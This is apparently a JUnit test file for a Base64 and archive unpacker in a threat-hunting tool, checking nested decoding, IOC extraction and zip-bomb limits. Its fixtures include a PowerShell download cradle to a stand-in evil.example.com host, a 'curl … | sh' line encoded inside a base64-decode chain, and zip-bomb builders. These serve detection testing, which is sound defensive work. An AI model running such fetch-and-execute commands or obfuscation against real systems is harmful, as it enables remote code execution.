package dev.hunt4j.analysis.b64;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hunt4j.analysis.ioc.IocExtractor;
import dev.hunt4j.api.IocType;
import dev.hunt4j.api.QueryException;
import dev.hunt4j.api.analysis.Analyzer;
import dev.hunt4j.api.data.Column;
import dev.hunt4j.api.data.ColumnType;
import dev.hunt4j.api.data.ResultStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class Base64UnpackerTest {
    static final String SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2.ps1')";

    static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    static String b64(String s) {
        return b64(s.getBytes(StandardCharsets.UTF_8));
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] gzip(byte[] data) throws IOException {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (GZIPOutputStream g = new GZIPOutputStream(bo)) {
            g.write(data);
        }
        return bo.toByteArray();
    }

    static byte[] zip(Map<String, byte[]> entries) throws IOException {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bo)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                z.putNextEntry(new ZipEntry(e.getKey()));
                z.write(e.getValue());
                z.closeEntry();
            }
        }
        return bo.toByteArray();
    }

    static byte[] deflate(byte[] data, boolean raw) {
        Deflater d = new Deflater(Deflater.DEFAULT_COMPRESSION, raw);
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bo, d)) {
            out.write(data);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        d.end();
        return bo.toByteArray();
    }

    /** A POSIX tar with the given files (and a GNU long-name entry for names over 100 bytes). */
    static byte[] tar(Map<String, byte[]> files) {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        for (Map.Entry<String, byte[]> f : files.entrySet()) {
            byte[] name = utf8(f.getKey());
            if (name.length > 100) {
                bo.writeBytes(tarHeader("././@LongLink", name.length + 1, 'L'));
                bo.writeBytes(Arrays.copyOf(name, ((name.length + 1 + 511) / 512) * 512));
            }
            bo.writeBytes(tarHeader(name.length > 100 ? "long" : f.getKey(), f.getValue().length, '0'));
            bo.writeBytes(Arrays.copyOf(f.getValue(), ((f.getValue().length + 511) / 512) * 512));
        }
        bo.writeBytes(new byte[1024]);
        return bo.toByteArray();
    }

    static byte[] tarHeader(String name, long size, char type) {
        byte[] h = new byte[512];
        put(h, 0, name);
        put(h, 100, "0000644");
        put(h, 108, "0000000");
        put(h, 116, "0000000");
        put(h, 124, String.format("%011o", size));
        put(h, 136, "14000000000");
        h[156] = (byte) type;
        put(h, 257, "ustar");
        put(h, 263, "00");
        Arrays.fill(h, 148, 156, (byte) ' ');
        long sum = 0;
        for (byte b : h) {
            sum += b & 0xFF;
        }
        put(h, 148, String.format("%06o", sum));
        h[154] = 0;
        return h;
    }

    private static void put(byte[] h, int off, String s) {
        byte[] b = s.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(b, 0, h, off, b.length);
    }

    static String hex(String alg, byte[] b) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance(alg).digest(b));
    }

    private static final Base64Unpacker U = Base64Unpacker.defaults();

    @Nested
    class Text {
        @Test
        void powershellEncodedCommandIsUtf16() {
            String cmd = "powershell.exe -nop -enc " + b64(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
            UnpackResult r = U.unpack(cmd);
            assertEquals(1, r.items().size());
            DecodedItem it = r.items().get(0);
            assertEquals("utf-16", it.encodingType());
            assertEquals(SCRIPT, it.decodedString());
            assertEquals("1", it.reference());
            assertEquals(1, it.depth());
            assertTrue(r.fullyDecodedText().startsWith("powershell.exe -nop -enc <decoded type='string' name='[None]' index='1' depth='1'>"
                    + SCRIPT + "</decoded>"), r.fullyDecodedText());
            assertEquals(Map.of(IocType.URL, Set.of("http://evil.example.com/stage2.ps1")), r.iocs(IocExtractor.defaults()));
        }

        @Test
        void utf8AndUrlSafeWithoutPadding() {
            String text = "id_token=" + Base64.getUrlEncoder().withoutPadding().encodeToString(utf8("{\"sub\":\"user\",\"aud\":\"app??>>\"}"))
                    + " and data:" + b64("hello world, this is plain text");
            UnpackResult r = U.unpack(text);
            assertEquals(List.of("{\"sub\":\"user\",\"aud\":\"app??>>\"}", "hello world, this is plain text"),
                    r.items().stream().map(DecodedItem::decodedString).toList());
            assertTrue(r.items().stream().allMatch(i -> i.encodingType().equals("utf-8")));
        }

        @Test
        void nestedBase64IsDecodedInPlace() throws Exception {
            String inner = b64("curl http://evil.example.net/x | sh");
            UnpackResult r = U.unpack("run " + b64("echo " + inner + " | base64 -d | sh"));
            assertEquals(List.of("1", "1.1"), r.items().stream().map(DecodedItem::reference).toList());
            assertEquals(List.of(1, 2), r.items().stream().map(DecodedItem::depth).toList());
            assertTrue(r.fullyDecodedText().contains("<decoded type='string' name='[None]' index='1.1' depth='2'>curl http://evil.example.net/x | sh</decoded>"),
                    r.fullyDecodedText());
            DecodedItem outer = r.items().get(0);
            byte[] raw = utf8("echo " + inner + " | base64 -d | sh");
            assertEquals(hex("MD5", raw), outer.md5());
            assertEquals(hex("SHA-1", raw), outer.sha1());
            assertEquals(hex("SHA-256", raw), outer.sha256());
        }

        @Test
        void wrappedLinesAreOneRun() {
            String enc = Base64.getMimeEncoder().encodeToString(utf8(SCRIPT.repeat(3)));
            assertTrue(enc.contains("\r\n"));
            UnpackResult r = U.unpack("-----BEGIN DATA-----\r\n" + enc + "\r\n-----END DATA-----");
            assertEquals(1, r.items().size());
            assertEquals(SCRIPT.repeat(3), r.items().get(0).decodedString());
        }

        @ParameterizedTest
        @ValueSource(strings = {"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe", "/usr/share/applications/something",
            "ThisIsAVeryLongIdentifierNameWithoutDigits", "SomeConfigurationKeyName=value", "abc", "AAAAAAAAAAAAAAAAAAAAAAA",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"})
        void wordsPathsAndHashesAreNotBase64(String text) {
            UnpackResult r = U.unpack(text);
            assertEquals(List.of(), r.items(), text);
            assertEquals(text, r.fullyDecodedText());
        }

        @Test
        void nullAndEmpty() {
            assertEquals("", U.unpack(null).fullyDecodedText());
            assertEquals(List.of(), U.unpack("").items());
        }
    }

    @Nested
    class Archives {
        @Test
        void gzipWithItsStoredName() throws Exception {
            ByteArrayOutputStream bo = new ByteArrayOutputStream();
            byte[] plain = gzip(utf8(SCRIPT));
            // set FNAME: rebuild the header with flag 0x08 and a name
            bo.write(Arrays.copyOf(plain, 10));
            bo.write(utf8("stage.ps1"));
            bo.write(0);
            bo.write(plain, 10, plain.length - 10);
            byte[] named = bo.toByteArray();
            named[3] = 0x08;
            UnpackResult r = U.unpack("H4sI payload: " + b64(named));
            assertEquals(2, r.items().size(), r.items().toString());
            assertEquals("gz", r.items().get(0).fileType());
            DecodedItem content = r.items().get(1);
            assertEquals("stage.ps1", content.fileName());
            assertEquals("gz", content.archiveType());
            assertEquals(SCRIPT, content.decodedString());
            assertEquals("1.1", content.reference());
            assertEquals(2, content.depth());
            assertEquals("gzip_file", U.unpack(b64(gzip(utf8(SCRIPT)))).items().get(1).fileName());
        }

        @Test
        void zipEntriesWithNamesAndHashes() throws Exception {
            byte[] exe = new byte[512];
            exe[0] = 'M';
            exe[1] = 'Z';
            exe[0x3C] = (byte) 0x80;
            System.arraycopy(new byte[] {'P', 'E', 0, 0}, 0, exe, 0x80, 4);
            exe[0x80 + 22] = 0x02;
            exe[0x80 + 23] = 0x20; // IMAGE_FILE_DLL
            byte[] z = zip(new java.util.LinkedHashMap<>(Map.of("a/readme.txt", utf8("hello from the zip"))) {
                {
                    put("bin/evil.dll", exe);
                }
            });
            UnpackResult r = U.unpack(b64(z));
            assertEquals(List.of("1", "1.1", "1.2"), r.items().stream().map(DecodedItem::reference).toList());
            assertEquals("zip", r.items().get(0).fileType());
            DecodedItem dll = r.items().stream().filter(i -> "bin/evil.dll".equals(i.fileName())).findFirst().orElseThrow();
            assertEquals("dll", dll.fileType());
            assertEquals("zip", dll.archiveType());
            assertEquals("binary", dll.encodingType());
            assertEquals(hex("SHA-256", exe), dll.sha256());
            assertTrue(dll.printableBytes().startsWith("4d 5a 00"), dll.printableBytes());
            assertArrayEquals(exe, dll.bytes());
            assertTrue(r.fullyDecodedText().startsWith("<decoded value='archive' type='zip'"), r.fullyDecodedText());
        }

        @Test
        void tarWithLongNamesAndNestedGzip() throws Exception {
            String longName = "dir/" + "x".repeat(120) + ".txt";
            byte[] t = tar(new java.util.LinkedHashMap<>(Map.of("short.txt", utf8("first file"))) {
                {
                    put(longName, utf8("second file"));
                    put("inner.gz", gzip(utf8("third file, gzipped inside the tar")));
                }
            });
            UnpackResult r = U.unpack("data=" + b64(t));
            assertEquals("tar", r.items().get(0).fileType());
            List<String> names = r.items().stream().map(DecodedItem::fileName).toList();
            assertTrue(names.containsAll(List.of("short.txt", longName, "inner.gz", "gzip_file")), names.toString());
            assertTrue(r.items().stream().anyMatch(i -> "third file, gzipped inside the tar".equals(i.decodedString())));
        }

        @Test
        void zlibAndRawDeflate() {
            UnpackResult z = U.unpack(b64(deflate(utf8(SCRIPT), false)));
            assertEquals("zlib", z.items().get(0).fileType());
            assertEquals(SCRIPT, z.items().get(1).decodedString());
            UnpackResult raw = U.unpack("$s=[IO.MemoryStream][Convert]::FromBase64String('" + b64(deflate(utf8(SCRIPT), true)) + "')");
            assertEquals("deflate", raw.items().get(0).fileType());
            assertEquals(SCRIPT, raw.items().get(1).decodedString());
        }

        @Test
        void truncatedGzipIsReportedWithWhatWasRecovered() throws Exception {
            byte[] g = gzip(utf8(SCRIPT.repeat(50)));
            UnpackResult r = U.unpack(b64(Arrays.copyOf(g, g.length / 2)));
            DecodedItem gz = r.items().get(0);
            assertEquals("gz", gz.fileType());
            assertTrue(gz.status().startsWith("error: truncated gzip"), gz.status());
            assertTrue(r.items().size() == 2 && r.items().get(1).decodedString().startsWith("IEX (New-Object"), r.items().toString());
        }

        @Test
        void badZipHeadersDoNotThrow() {
            byte[] bad = new byte[300];
            bad[0] = 'P';
            bad[1] = 'K';
            bad[2] = 3;
            bad[3] = 4;
            for (int i = 4; i < bad.length; i++) {
                bad[i] = (byte) (i * 31);
            }
            UnpackResult r = U.unpack(b64(bad));
            assertEquals("zip", r.items().get(0).fileType());
            assertTrue(r.items().get(0).status().startsWith("error:"), r.items().get(0).status());
        }

        @Test
        void badTarChecksum() {
            byte[] t = tar(Map.of("a.txt", utf8("content here")));
            t[0] = 'b'; // name changes, stored checksum does not
            UnpackResult r = U.unpack(b64(t));
            assertTrue(r.items().isEmpty() || !"tar".equals(r.items().get(0).fileType()), r.items().toString());
        }
    }

    @Nested
    class Limits {
        @Test
        void depthLimitYieldsARow() {
            String s = "final payload text";
            for (int i = 0; i < 7; i++) {
                s = "x " + b64(s);
            }
            UnpackResult r = Base64Unpacker.builder().maxDepth(4).build().unpack(s);
            assertTrue(r.limitReached());
            DecodedItem last = r.items().get(r.items().size() - 1);
            assertEquals(5, last.depth());
            assertTrue(last.status().startsWith("limit reached: depth 5"), last.status());
            assertEquals(5, r.items().size());
            assertTrue(r.fullyDecodedText().contains("<decoded value='limit'"));
        }

        @Test
        void zipBombStopsAtTheEntryLimit() throws Exception {
            // one entry of 256 MiB of zeros: about 250 KiB compressed
            ByteArrayOutputStream bo = new ByteArrayOutputStream();
            try (ZipOutputStream z = new ZipOutputStream(bo)) {
                z.setLevel(Deflater.BEST_COMPRESSION);
                z.putNextEntry(new ZipEntry("bomb.bin"));
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < 256; i++) {
                    z.write(zeros);
                }
                z.closeEntry();
            }
            byte[] bomb = bo.toByteArray();
            // and a zip holding ten copies of it: 2.5 GiB if unpacked
            byte[] nested = zip(Map.of("1.zip", bomb, "2.zip", bomb, "3.zip", bomb, "4.zip", bomb, "5.zip", bomb,
                    "6.zip", bomb, "7.zip", bomb, "8.zip", bomb, "9.zip", bomb, "10.zip", bomb));
            UnpackResult r = U.unpack(b64(nested));
            assertTrue(r.limitReached());
            long limitRows = r.items().stream().filter(i -> i.status().contains("larger than")).count();
            assertTrue(limitRows >= 1, r.items().toString());
            long total = r.items().stream().mapToLong(DecodedItem::size).sum();
            assertTrue(total <= Base64Unpacker.DEFAULT_LIMITS.maxTotalBytes(), "decoded " + total);
        }

        @Test
        void concatenatedGzipBombStopsAtTheTotalBudget() throws Exception {
            byte[] member = gzip(new byte[64 << 20]);
            ByteArrayOutputStream bo = new ByteArrayOutputStream();
            for (int i = 0; i < 16; i++) {
                bo.write(member); // 1 GiB of zeros in ~1 MiB
            }
            UnpackResult r = Base64Unpacker.builder().maxEntryBytes(256L << 20).maxTotalBytes(32L << 20).build()
                    .unpack(b64(bo.toByteArray()));
            assertTrue(r.limitReached(), r.items().toString());
            assertTrue(r.items().get(0).status().startsWith("limit reached: total decoded bytes"), r.items().get(0).status());
        }

        @Test
        void nestedGzipStopsAtTheDepthLimit() throws Exception {
            byte[] data = utf8("innermost");
            for (int i = 0; i < 10; i++) {
                data = gzip(data);
            }
            UnpackResult r = U.unpack(b64(data));
            assertTrue(r.limitReached());
            assertEquals(4, r.items().stream().filter(i -> !i.isLimit()).mapToInt(DecodedItem::depth).max().orElse(0));
        }

        @Test
        void entryCountLimit() throws Exception {
            Map<String, byte[]> many = new java.util.LinkedHashMap<>();
            for (int i = 0; i < 1500; i++) {
                many.put("f" + i + ".txt", utf8("file number " + i));
            }
            UnpackResult r = U.unpack(b64(zip(many)));
            assertEquals("limit reached: more than 1000 entries in the zip", r.items().get(0).status());
            assertEquals(1001, r.items().size());
        }

        @Test
        void itemLimit() {
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < 50; i++) {
                sb.append(b64("plain text number " + i + " here")).append(' ');
            }
            UnpackResult r = Base64Unpacker.builder().maxItems(10).build().unpack(sb.toString());
            assertEquals(11, r.items().size());
            assertTrue(r.items().get(10).status().startsWith("limit reached: more than 10 decoded items"));
        }

        @Test
        void badLimitsAreRejected() {
            assertThrows(IllegalArgumentException.class, () -> Base64Unpacker.builder().maxDepth(0).build());
            assertThrows(IllegalArgumentException.class, () -> Base64Unpacker.builder().minLength(4).build());
            assertThrows(IllegalArgumentException.class, () -> Base64Unpacker.builder().maxEntryBytes(3L << 30).build());
        }
    }

    @Nested
    class Table {
        private ResultStream input() {
            return ResultStream.of(List.of(new Column("Computer", ColumnType.STRING), new Column("CommandLine", ColumnType.STRING)),
                    List.of(new Object[] {"h1", "dir"},
                            new Object[] {"h2", "powershell -enc " + b64(SCRIPT.getBytes(StandardCharsets.UTF_16LE))},
                            new Object[] {"h3", null}));
        }

        @Test
        void msticpyColumnsAndRows() {
            ResultStream out = U.unpack(input(), "CommandLine");
            List<String> names = out.columns().stream().map(Column::name).toList();
            assertEquals(List.of("reference", "original_string", "file_name", "file_type", "input_bytes", "decoded_string",
                    "encoding_type", "file_hashes", "md5", "sha1", "sha256", "printable_bytes", "archive_type", "depth", "status",
                    "src_index", "CommandLine", "full_decoded_string"), names);
            List<Object[]> rows = out.toList();
            assertEquals(1, rows.size());
            Object[] row = rows.get(0);
            assertEquals(1L, row[names.indexOf("src_index")]);
            assertEquals(SCRIPT, row[names.indexOf("decoded_string")]);
            assertEquals((long) SCRIPT.length() * 2, row[names.indexOf("input_bytes")]);
            assertTrue(((String) row[names.indexOf("file_hashes")]).startsWith("{\"md5\":\""));
            assertTrue(((String) row[names.indexOf("full_decoded_string")]).contains(SCRIPT));
        }

        @Test
        void iocsColumn() {
            List<Object[]> rows = Base64Unpacker.builder().extractIocs(IocExtractor.defaults()).build()
                    .unpack(input(), "CommandLine").toList();
            assertEquals("{\"url\":[\"http://evil.example.com/stage2.ps1\"]}", rows.get(0)[18]);
        }

        @Test
        void missingColumn() {
            QueryException e = assertThrows(QueryException.class, () -> U.unpack(input(), "Cmd"));
            assertTrue(e.getMessage().contains("'Cmd'"));
        }

        @Test
        void analyzerFactory() {
            Base64UnpackAnalyzerFactory f = new Base64UnpackAnalyzerFactory();
            assertEquals("b64-unpack", f.name());
            Analyzer a = f.create(Map.of("column", "CommandLine", "max_depth", "2", "extract_iocs", "true"));
            assertEquals(1, a.analyze(input()).toList().size());
            assertThrows(IllegalArgumentException.class, () -> f.create(Map.of()));
            assertThrows(IllegalArgumentException.class, () -> f.create(Map.of("column", "c", "max_depth", "deep")));
            assertThrows(IllegalArgumentException.class, () -> f.create(Map.of("column", "c", "max_depth", "0")));
            assertThrows(IllegalArgumentException.class, () -> f.create(Map.of("column", "c", "depth", "2")));
        }
    }

    @Test
    void limitRowsHaveNoHashes() {
        UnpackResult r = Base64Unpacker.builder().maxDepth(1).build().unpack(b64("x " + b64("inner text payload")));
        DecodedItem limit = r.items().get(1);
        assertTrue(limit.isLimit());
        assertNull(limit.md5());
        assertEquals(0, limit.size());
        assertFalse(limit.isText());
    }
}
